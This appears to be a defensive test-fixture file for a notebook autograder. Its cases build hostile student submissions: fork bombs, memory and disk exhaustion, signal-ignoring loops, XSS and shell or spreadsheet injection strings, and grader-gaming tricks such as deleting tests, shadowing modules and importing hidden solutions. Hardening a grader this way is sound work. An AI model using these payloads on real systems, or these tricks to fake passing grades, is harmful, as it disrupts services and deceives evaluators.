def hidden_inputs_in_a_later_cell(paper: Paper) -> None:
    """The answer remembers what it was called with, and a later cell prints that."""
    paper.add("SEEN = []")
    paper.count("SEEN.append(sizes)\n" + RIGHT["count"])
    paper.add("print(SEEN)", before="")


@row("e3-next", "GG", (3, 0), "error", silent=("0.7071067",))
def hidden_inputs_in_the_next_question(paper: Paper) -> None:
    """Hidden inputs of one question are told in the visible error of another."""
    paper.add("SEEN = []")
    paper.attn("SEEN.append(q)\n" + RIGHT["attn"])
    paper.count("raise ValueError(SEEN[2].tolist())")


@row("e3-name", "GG", (3, 1), "partial", silent=("7919",))
def hidden_inputs_in_the_name_of_an_error(paper: Paper) -> None:
    """An exception in a hidden test has the hidden input as its name."""
    body = "if 7919 in sizes:\n    raise type(f'x{sizes[0]}', (Exception,), {})\n"
    paper.count(body + RIGHT["count"])


@row("e3-text", "GG", (3, 0), "error")
def an_error_that_no_file_can_hold(paper: Paper) -> None:
    """The text of the exception is no text: half letters, control characters, markup, too long."""
    paper.count("""
        class Odd(Exception):
            def __str__(self): return "\\ud800\\x00\\x1b[31m<script>alert(1)</script>" + "y" * 10**7
        raise Odd()
    """)


@row("e3-mute", "GG", (3, 0), "error|timeout|killed")
def an_error_that_cannot_be_shown(paper: Paper) -> None:
    """Asking the exception for its text raises, and asking for its name lies."""
    paper.count("""
        class Meta(type):
            def __getattribute__(cls, name): raise SystemExit(0)
        class Odd(BaseException, metaclass=Meta):
            def __str__(self): raise KeyboardInterrupt
            __repr__ = __str__
        raise Odd()
    """)


# --- f: using up the machine -----------------------------------------------------------------


@row("f1", "GW", (3, 0), "timeout")
def endless_loop(paper: Paper) -> None:
    """The answer never returns."""
    paper.count("while True: pass")


@row("f2", "GW", (3, 0), "timeout")
def deaf_loop(paper: Paper) -> None:
    """The answer never returns and swallows every exception and signal."""
    paper.attack()
    paper.count("""
        for sig in set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}:
            try:
                signal.signal(sig, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            try:
                while True: pass
            except BaseException:
                pass
    """)


@row("f2-sleep", "GW", (3, 0), "timeout")
def sleeps(paper: Paper) -> None:
    """The answer waits and needs no processor, so that no limit on its time is met."""
    paper.count("import time\nwhile True: time.sleep(1000)")


@row("f3", "GW", (3, 0), "fail")
def much_output(paper: Paper) -> None:
    """200 MB on standard output, wrong."""
    paper.count("for _ in range(200): print('x' * 1_000_000)\nreturn 0")


@row("f3-right", "GG", (3, 2))
def much_output_and_right(paper: Paper) -> None:
    """200 MB on every output there is, while the answer is right."""
    paper.add("for _ in range(50): print('y' * 1_000_000)")
    paper.count("""
        import os, sys
        for _ in range(50):
            print('x' * 1_000_000)
            print('x' * 1_000_000, file=sys.stderr)
            for fd in (1, 2):
                try:
                    os.write(fd, b'x' * 1_000_000)
                except OSError:
                    pass
        return sum((a + bool(bias)) * b for a, b in zip(sizes, sizes[1:]))
    """)


@row("f4", "GW", (3, 0), "fail|error")
def fifty_processes(paper: Paper) -> None:
    """Fifty processes that stay after the answer has been given."""
    paper.attack()
    paper.count("""
        for _ in range(50):
            try:
                if os.fork() == 0:
                    os.setsid()
                    mark()
                    while True: time.sleep(1)
            except OSError:
                break
        return 0
    """)


@row("f4-exec", "GW", (3, 0), "fail|error")
def a_program_that_stays(paper: Paper) -> None:
    """A program of the system, started in a session of its own."""
    paper.attack()
    paper.count("""
        import subprocess
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)", MARK],
                         start_new_session=True)
        return 0
    """)


@row("f5", "GW", (3, 0), "fail")
def threads_that_stay(paper: Paper) -> None:
    """Threads that go on computing after the answer."""
    paper.attack()
    paper.count("""
        def work():
            mark()
            while True: sum(range(10**6))
        for _ in range(4):
            threading.Thread(target=work, daemon=False).start()
        return 0
    """)


@row("f6", "GW", (3, 0), "killed|oom|timeout")
def fork_bomb(paper: Paper) -> None:
    """Every process makes more of itself, for ever."""
    paper.attack()
    paper.count("""
        mark()
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """)


@row("f6-hog", "GW", (3, 0), "killed|oom|timeout")
def memory_hog(paper: Paper) -> None:
    """All the memory there is, and used."""
    paper.count("kept = []\nwhile True: kept.append(b'x' * (1 << 27))")


@row("f6-torch", "GW", (3, 0), "killed|oom|timeout")
def tensor_too_large(paper: Paper) -> None:
    """A tensor of a terabyte."""
    paper.count("return torch.ones(1 << 38).sum().item()")


@row("f6-forks", "GW", (3, 0), "killed|oom|timeout|fail")
def many_forks_with_memory(paper: Paper) -> None:
    """Thirty processes with 100 MB each: no limit of a single process is met."""
    paper.attack()
    paper.count("""
        for _ in range(30):
            try:
                if os.fork() == 0:
                    mark()
                    kept = b"x" * (100 << 20)
                    while True: time.sleep(1)
            except OSError:
                break
        return 0
    """)


@row("f6-threads", "GW", (3, 0), "killed|oom|timeout|error")
def five_hundred_threads(paper: Paper) -> None:
    """Five hundred threads that wait."""
    paper.count("""
        import threading, time
        for _ in range(500):
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        return 0 if threading.active_count() < 500 else time.sleep(3600)
    """)


@row("f6-recursion", "GW", (3, 0), "killed|oom|timeout")
def recursion_without_end(paper: Paper) -> None:
    """No limit on recursion, through C code, which has no other stack."""
    paper.count("""
        import sys
        sys.setrecursionlimit(10**9)
        class Deep:
            def __repr__(self): return repr(self)
        return len(repr(Deep()))
    """)


@row("f6-python", "GW", (3, 0), "killed|oom|timeout|error")
def recursion_in_python(paper: Paper) -> None:
    """No limit on recursion, in Python, which takes memory."""
    paper.count("import sys\nsys.setrecursionlimit(10**9)\nreturn count(sizes) + 1")


@row("f6-regex", "GW", (3, 0), "timeout")
def a_loop_inside_c(paper: Paper) -> None:
    """C code that looks at no signal."""
    paper.count("import re\nre.match('(a*)*b', 'a' * 40)\nreturn 0")


@row("f7", "GW", (3, 0), "error")
def fills_the_disk(paper: Paper) -> None:
    """Files of 8 MB in scratch until there is an error."""
    paper.count("""
        import itertools
        for number in itertools.count():
            with open(f"{number}", "wb") as file:
                file.write(b"x" * (8 << 20))
    """)


@row("f7-files", "GW", (3, 0), "error")
def a_million_files(paper: Paper) -> None:
    """Empty files until there is an error."""
    paper.count("for number in range(10**6): open(f'/tmp/f{number}', 'w').close()\n"
                          "return 0")  # fmt: skip


@row("f7-large", "GW", (3, 0), "error|killed")
def one_large_file(paper: Paper) -> None:
    """One file of a terabyte, with holes and without."""
    paper.count("file = open('/dev/shm/x', 'wb')\nfile.truncate(1 << 40)\n"
                          "while True: file.write(b'x' * (8 << 20))")  # fmt: skip


@row("f7-network", "GW", (3, 0), "error")
def connects(paper: Paper) -> None:
    """A connection to a port of this machine where someone listens."""
    paper.attack()
    paper.count("""
        for port in (PORT, 53, 80, 443):
            try:
                socket.create_connection(("127.0.0.1", port), 0.2).send(b"hello")
            except OSError as error:
                last = error
        raise last
    """)


@row("f7-udp", "GW", (3, 0), "error")
def sends_a_packet(paper: Paper) -> None:
    """A packet to this machine and to another, for which nobody has to answer."""
    paper.attack()
    paper.count("""
        last = None
        for address in (("127.0.0.1", PORT), ("10.0.0.1", 9), ("8.8.8.8", 53)):
            try:
                socket.socket(type=socket.SOCK_DGRAM).sendto(b"hello", address)
            except OSError as error:
                last = error
        if last: raise last
        return 0
    """)


@row("f7-unix", "GW", (3, 0), "error")
def a_socket_without_a_file(paper: Paper) -> None:
    """An abstract socket of this machine, which no file system hides."""
    paper.attack()
    paper.count("socket.socket(socket.AF_UNIX).connect(f'\\0canary{PORT}')\nreturn 0")


@row("f8", "GG", (3, 2))
def endless_cell(paper: Paper) -> None:
    """A cell of the student's own never ends; the answers are right."""
    paper.add("while True: pass")


@row("f8-exit", "GG", (3, 2))
def cell_that_ends_the_process(paper: Paper) -> None:
    """A cell between two questions ends the process; what came before is played again."""
    paper.add("helper = 1")
    paper.add("import os\nos._exit(1)", before="count")
    paper.count("helper\n" + RIGHT["count"])


@row("f8-thrice", "GG", (3, 2))
def three_such_cells(paper: Paper) -> None:
    """Three cells that end the process are as many as are played again."""
    for before in ("attn", "count", "count"):
        paper.add("import os\nos.kill(os.getpid(), 9)", before=before)


@row("f8-alarm", "GG", (3, 2))
def an_alarm_later(paper: Paper) -> None:
    """A timer of the student's raises in the middle of our calls."""
    paper.add("import signal\nsignal.signal(signal.SIGALRM, lambda *a: None)\n"
              "signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)")  # fmt: skip


# --- g: ends, and notebooks that are not what was handed out ---------------------------------

ENDS = {
    "g1": ("os._exit(0)", "killed"),
    "g1-kill": ("os.kill(os.getpid(), 9)", "killed"),
    "g1-abort": ("os.abort()", "killed"),
    "g1-exec": ("os.execv('/usr/bin/true', ['true'])", "killed"),
    "g1-stop": ("os.kill(os.getpid(), 19)", "timeout|killed"),
    "g2": ("ctypes.string_at(0)", "killed"),
    "g3": ("sys.exit(0)", "error"),
    "g3-exit": ("exit()", "error|killed"),
    "g3-interrupt": ("raise KeyboardInterrupt", "error"),
    "g3-base": ("raise BaseException('x')", "error"),
    "g3-generator": ("raise GeneratorExit", "error"),
    "g3-stop": ("raise StopIteration", "error"),
    "g3-memory": ("raise MemoryError", "oom|error"),
    "g3-failed": ("raise check.CheckFailed('pass')", "error|fail"),
    "g3-assert": ("assert False, 'pass'", "error|fail"),
    "g3-timeout": ("raise TimeoutError", "error"),
}


def _ends(key: str, code: str, status: str) -> None:
    @row(key, "GW", (3, 0), status)
    def ends_badly(paper: Paper) -> None:
        """The answer ends the process, or raises what is no ordinary error."""
        paper.add("import ctypes, os, sys")
        paper.count(f"{code}\nreturn 0")


for _name, (_code, _status) in ENDS.items():
    _ends(_name, _code, _status)


@row("g4", "GW", (3, 0), "fail")
def test_deleted(paper: Paper) -> None:
    """The test that would fail is not there."""
    for name in ("count_visible", "count_hidden"):
        paper.notebook.cells.remove(paper.cell(name))


@row("g4-weak", "GW", (3, 0), "fail")
def test_weakened(paper: Paper) -> None:
    """The test asks for less, and says that it is worth more."""
    for name in ("count_visible", "count_hidden"):
        paper.cell(name).source = "pass"
        paper.cell(name).metadata["nbgrader"]["points"] = 495


@row("g5", "GG", (3, 2), flag="duplicate")
def test_pasted(paper: Paper) -> None:
    """A test cell stands twice, with its metadata."""
    place = paper.index("attn_visible")
    paper.notebook.cells.insert(place + 1, copy.deepcopy(paper.notebook.cells[place]))


@row("g6", "GG", (3, 2), flag="duplicate")
def answer_pasted(paper: Paper) -> None:
    """An answer cell stands twice, with its metadata."""
    place = paper.index("attn")
    paper.notebook.cells.insert(place + 1, copy.deepcopy(paper.notebook.cells[place]))


@row("g7", "GW", (3, 0), "fail")
def test_as_text(paper: Paper) -> None:
    """The test cells are text."""
    for name in ("count_visible", "count_hidden"):
        paper.cell(name).cell_type = "markdown"


@row("g7b", "GW", (3, 0), "fail")
def test_as_raw(paper: Paper) -> None:
    """The test cells are raw."""
    for name in ("count_visible", "count_hidden"):
        paper.cell(name).cell_type = "raw"


@row("g8", "GG", (3, 2), flag="recovered")
def through_colab(paper: Paper) -> None:
    """All metadata and ids are lost."""
    for number, cell in enumerate(paper.notebook.cells):
        cell.metadata, cell["id"] = {}, f"n{number}"
    paper.notebook.metadata = {"colab": {"provenance": []}}


@row("g9", "GG", (3, 2))
def unknown_kernel(paper: Paper) -> None:
    """The notebook wants another kernel."""
    paper.notebook.metadata = {"kernelspec": {"name": "julia-1.9", "display_name": "Julia"}}


@row("g10", "GW", (3, 0), "fail")
def test_not_graded(paper: Paper) -> None:
    """The test's metadata say that it is not graded."""
    for name in ("count_visible", "count_hidden"):
        paper.cell(name).metadata["nbgrader"].update(grade=False, points=0)


@row("g11", "GG", (3, 2))
def test_moved(paper: Paper) -> None:
    """A test stands above the answer that it tests."""
    test = paper.cell("count_visible")
    paper.notebook.cells.remove(test)
    paper.notebook.cells.insert(1, test)


@row("g12", "GW", (3, 0), "fail")
def test_as_solution(paper: Paper) -> None:
    """The test's metadata say that it is the student's to write."""
    for name in ("count_visible", "count_hidden"):
        paper.cell(name).metadata["nbgrader"].update(solution=True, locked=False)
        paper.cell(name).source = "pass"


@row("g13", "GG", (0, 0), "malformed")
def broken_json(paper: Paper) -> bytes:
    """The file ends too early."""
    return json.dumps(paper.notebook).encode()[:-100]


@row("g14", "--", (0, 0), "malformed")
def empty_file(paper: Paper) -> bytes:
    """A file without a byte."""
    return b""


@row("g15", "--", (0, 0), "missing")
def format_3_without_cells(paper: Paper) -> bytes:
    """An old notebook that is empty."""
    return b'{"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": []}'


@row("g15-real", "GG", (3, 2))
def format_3(paper: Paper) -> bytes:
    """An old notebook with everything in it, graded ids included."""
    return json.dumps(nbformat.convert(paper.notebook, 3)).encode()


@row("g16", "GG", (3, 2), flag="oversize")
def huge_comment(paper: Paper) -> None:
    """A comment of 30 MB."""
    paper.add("#" * 30_000_000)


@row("g17", "GG", (3, 2), flag="renamed")
def renamed_by_the_browser(paper: Paper) -> dict[str, Content]:
    """The file is called `lab (1).ipynb`."""
    return {f"{LAB} (1).ipynb": paper.notebook}


@row("g17-two", "GG", (3, 2), flag="several+renamed")
def two_files(paper: Paper) -> dict[str, Content]:
    """An older file without answers, and a newer one with them."""
    return {f"{LAB}.ipynb": paper.scene.release, f"{LAB} (1).ipynb": paper.notebook}


# --- h: files, names, texts ------------------------------------------------------------------


@row("h1", "GG", (3, 2), flag="dropped")
def link_beside(paper: Paper) -> dict[str, Content]:
    """Links beside the notebook, to what the teacher can read."""
    links = {f"link{n}.txt": Link(p) for n, p in enumerate(paper.scene.places)}
    return {f"{LAB}.ipynb": paper.notebook, **links}


@row("h1-notebook", "--", (0, 0), "missing", flag="dropped")
def link_to_another_notebook(paper: Paper) -> dict[str, Content]:
    """The notebook is a link to that of another student."""
    other = next(p for p in paper.scene.places if p.endswith(".ipynb"))
    return {f"{LAB}.ipynb": Link(other)}


@row("h2", "WG", (0, 2), "fail", flag="dropped")
def own_torch(paper: Paper) -> dict[str, Content]:
    """Modules of the student's beside the notebook, called like ours."""
    code = b"raise SystemExit(0)\nallclose = equal = lambda *a, **k: True\n"
    names = ("torch.py", "glassbox.py", "math.py", "sitecustomize.py", "conftest.py")
    return {f"{LAB}.ipynb": paper.notebook, **dict.fromkeys(names, code)}


@row("h3", "GG", (3, 2))
def active_content(paper: Paper) -> None:
    """Scripts, handlers and links wherever a student can put text."""
    payload = "\n\n".join([
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        "$<img src=x onerror=alert(2)>$", "$$\n<svg onload=alert(3)>\n$$",
        "[a](javascript:alert(4))", "[b](  JaVaScRiPt:alert(5))", "[c](&#106;avascript:alert(6))",
        "[d][e]\n\n[e]: javascript:alert(7)", "[f](data:text/html;base64,PHNjcmlwdD4=)",
        "<details open ontoggle=alert(14)>", "`<script>alert(9)</script>`",
    ])  # fmt: skip
    paper.notebook.cells.append(nbformat.v4.new_markdown_cell(payload))
    paper.notebook.cells.append(nbformat.v4.new_raw_cell(
        payload, metadata={"raw_mimetype": "text/html"}))  # fmt: skip
    paper.add(f"# {payload[:25]}\nprint({payload!r})\nraise ValueError({payload!r})", before="")
    paper.add("""
        from IPython.display import HTML, Javascript, display
        display(HTML('<script>alert(1)</script>'), Javascript('alert(2)'))
    """, before="")  # fmt: skip
    paper.notebook.metadata["title"] = "</title><script>alert(5)</script>"


@row("h3-surrogate", "GG", (3, 2))
def half_letters(paper: Paper) -> bytes:
    """Text with half letters, which JSON can carry and no file in UTF-8 can hold."""
    paper.add("# HALF\nprint('HALF')")
    paper.notebook.cells.append(nbformat.v4.new_markdown_cell("HALF"))
    return json.dumps(paper.notebook).replace("HALF", "\\ud800").encode()


NAMES = {
    "brackets": "[4] x", "dash": "-rf", "long": "n" * 255, "star": "*?{a,b}", "dots": "x..y",
    "space": " x ", "quote": "a\"b'c`$(id)", "newline": "a\nb", "percent": "%s%n",
}  # fmt: skip


def _names(name: str, folder: str) -> None:
    @row(f"h4-{name}", "GG", (3, 2), folder=folder)
    def strange_name(paper: Paper) -> None:
        """A folder with a name that a shell, a glob or a database trips over."""


for _name, _code in NAMES.items():
    _names(_name, _code)
for _name, _code in {"case-1": "Twin", "case-2": "twin", "form-1": "caf\u00e9",
                     "form-2": "cafe\u0301"}.items():  # fmt: skip

    @row(f"h4-{_name}", "GG", (3, 2), flag="twins", folder=_code)
    def twins(paper: Paper) -> None:
        """Two students whose names a file system or a database takes for one."""


for _name, _code in {"h5": 'Doe, Jane "JD"', "h5-formula": "=1+1", "h5-plus": "+1", "h5-at": "@x",
                     "h6": "Žofie-Ελένη-สมชาย"}.items():  # fmt: skip

    @row(_name, "GG", (3, 2), folder=_code)
    def name_in_a_table(paper: Paper) -> None:
        """A name that shifts the columns of a table, or that a spreadsheet computes."""


for _name, _bytes in {
    "h8": b'{"nbformat": 4, "x": "\xff\xfe"}',
    "h8-latin": b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {"a": "\xe9"}, "cells": []}',
    "h9": b"[" * 200_000,
    "h9-object": b'{"a":' * 200_000,
    "h10": b'{"nbformat": 4, "nbformat_minor": 5, "cells": [], "metadata": '
           + b'{"a": ' * 3000 + b"1" + b"}" * 3001,
    "h10-number": b'{"nbformat": 4' + b"0" * 10_000 + b', "cells": []}',
    "h10-version": b'{"nbformat": "4", "nbformat_minor": [], "metadata": {}, "cells": {}}',
    "h10-null": b"\0" * 1000,
    "h10-cells": b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [1, null, []]}',
    "h10-sparse": b"{" + b" " * 65_000_000 + b"}",
}.items():  # fmt: skip

    @row(_name, "--", (0, 0), "malformed")
    def no_notebook(paper: Paper, data: bytes = _bytes) -> bytes:
        """Bytes that are no notebook, in ways that parsers trip over."""
        return data


@row("h11", "GG", (3, 2))
def three_thousand_cells(paper: Paper) -> None:
    """Very many cells of the student's own."""
    paper.notebook.cells += [nbformat.v4.new_code_cell(f"x = {n}") for n in range(3000)]


@row("h11-cap", "GG", (0, 0), "malformed")
def too_many_cells(paper: Paper) -> None:
    """More cells than are read."""
    paper.notebook.cells += [nbformat.v4.new_code_cell(f"x = {n}") for n in range(5000)]


@row("h11-ids", "GG", (3, 2))
def cell_ids_of_others(paper: Paper) -> None:
    """Cells of the student's own with the ids of ours, or with ids that are paths."""
    for number, name in enumerate(("attn_hidden", "../../x", "", "setup", "notes", "extra1")):
        paper.add(f"x = {number}")
        paper.notebook.cells[paper.index("attn") - 1]["id"] = name


@row("h12", "GG", (3, 2))
def byte_order_mark(paper: Paper) -> bytes:
    """An honest file that an editor began with a byte order mark."""
    return b"\xef\xbb\xbf" + json.dumps(paper.notebook).encode()


for _name, _bytes in {"bad": b"not a time", "old": b"1999-01-01 00:00:00 UTC", "long": b"1" * 10**6,
                      "binary": b"\xff\0\xfe", "year": b"999999999-01-01 00:00:00 UTC"
                      }.items():  # fmt: skip

    @row(f"h13-{_name}", "GG", (3, 2))
    def time_of_the_students_own(paper: Paper, data: bytes = _bytes) -> dict[str, Content]:
        """A time stamp that cannot be read, or that lies."""
        return {f"{LAB}.ipynb": paper.notebook, "timestamp.txt": data}


@row("h14", "GG", (3, 2))
def magics(paper: Paper) -> None:
    """Magics and shell commands, as they stand in many notebooks."""
    paper.add("%matplotlib inline\n%load_ext autoreload\n!pip install nothing\n!ls /\nx = !ls")
    paper.add("%%bash\nls")
    paper.add("%%time\nmeasured = 1")
    paper.add("%%capture out\nprint(1)")
    paper.add("%%writefile own.txt\nhello")
    paper.add("%cd /\n%env A=1\n%timeit -n 1 -r 1 1\n?print\nprint?")
    paper.cell("count").source = "%%time\n" + paper.cell("count").source + "\nmeasured"


@row("h15", "GG", (3, 2))
def asks_for_input(paper: Paper) -> None:
    """Cells that ask the person in front of the screen."""
    paper.add("name = input('who? ')")
    paper.add("import getpass, sys\ngetpass.getpass()\nsys.stdin.read()")


@row("h16", "GG", (3, 2))
def cell_that_is_no_python(paper: Paper) -> None:
    """Cells of the student's own that do not compile."""
    paper.add("def broken(:")
    paper.add("Dear teacher, I did not find the time.", before="count")


@row("h17", "GG", (3, 2))
def helper_in_own_cell(paper: Paper) -> None:
    """The answer calls a function of a cell that the student added."""
    paper.add("def layer(a, b, bias):\n    return (a + bias) * b", before="count")
    paper.count("return sum(layer(a, b, bool(bias)) for a, b in zip(sizes, sizes[1:]))")


@row("h17-await", "GG", (3, 2))
def top_level_await(paper: Paper) -> None:
    """A cell that awaits, as notebooks allow."""
    paper.add("import asyncio\nawait asyncio.sleep(0)\nready = True", before="count")
    paper.count("assert ready\n" + RIGHT["count"])


IMPORTS = {
    "h18": f"from solutions.{LAB}.{LAB} import count as theirs",
    "h18-autograder": "from autograder.lab import read_lab as theirs",
    "h18-mistakes": "import importlib; theirs = importlib.import_module('mistakes').by_loop",
    "h18-glassbox": f"import glassbox.{LAB} as m; theirs = m.count",
}


def _imports(key: str, code: str) -> None:
    ours = "solutions" in code or "autograder" in code

    @row(key, "GW", (3, 0), "error", flag="forbidden_call" if ours else None)
    def imports_the_answer(paper: Paper) -> None:
        """The answer is imported from where the course keeps it."""
        paper.count(f"{code}\nreturn theirs(sizes, bias)")


for _name, _code in IMPORTS.items():
    _imports(_name, _code)

# --- three people ----------------------------------------------------------------------------


@row("erin", "GG", (3, 2))
def warns(paper: Paper) -> None:
    """A right answer that warns, on the error stream."""
    paper.count("import warnings\nwarnings.warn('slow')\n" + RIGHT["count"])


@row("frank", "GG", (3, 2))
def progress_bar(paper: Paper) -> None:
    """A right answer with a progress bar."""
    paper.attn("from tqdm.auto import tqdm\nfor _ in tqdm(range(3)): pass\n"
                         + RIGHT["attn"])  # fmt: skip


@row("dave", "--", (0, 0), "not_attempted")
def untouched(paper: Paper) -> None:
    """The notebook as it was handed out."""
